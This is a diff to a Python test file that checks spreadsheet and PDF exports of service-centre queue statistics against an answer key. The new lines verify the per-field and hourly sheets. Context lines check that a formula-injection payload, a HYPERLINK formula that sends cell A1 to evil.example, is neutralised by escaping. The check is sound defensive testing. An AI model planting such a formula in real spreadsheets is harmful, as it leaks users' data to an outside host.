@@ -126,6 +126,12 @@ def test_exports_read_back_with_the_right_figures(app: Any, client: Any) -> None
     assert row["Số phiếu cấp"] == 120 and row["Vắng mặt"] == key["missed"]
     assert row["Chờ TB (phút)"] == pytest.approx(key["wait"]["avg"], abs=0.01)
     assert row["Tỷ lệ chờ đạt chuẩn"] == pytest.approx(key["service_level"], abs=1e-4)
+    # the breakdown and heat-map sheets agree with the answer key too
+    by_field = _sheet_rows(book["Theo lĩnh vực"])
+    assert sum(r["Số phiếu cấp"] for r in by_field) == 120
+    assert sum(r["Vắng mặt"] for r in by_field) == key["missed"]
+    heat = _sheet_rows(book["Số phiếu cấp theo giờ"])
+    assert sum(v for r in heat for k, v in r.items() if k.endswith("h") and v) == 120
     cells = [c.value for sheet in book.worksheets for r in sheet.iter_rows() for c in r if c.value]
     evil = [v for v in cells if isinstance(v, str) and "HYPERLINK" in v]
     assert evil == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")']
@@ -148,6 +154,12 @@ def test_exports_read_back_with_the_right_figures(app: Any, client: Any) -> None
     text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(res.data)).pages)
     assert "Trung tâm Phục vụ hành chính công xã Hòa Bình" in text
     assert "Theo lĩnh vực" in text and "120" in text
+
+
+def _sheet_rows(sheet: Any) -> list[dict[str, Any]]:
+    """A table sheet of the export (title, subtitle, table title, header, rows) as dicts."""
+    rows = [[c.value for c in r] for r in sheet.iter_rows(min_row=4)]
+    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:] if any(v is not None for v in r)]
 
 
 def _counts(client: Any, headers: dict[str, str]) -> dict[str, Any]:
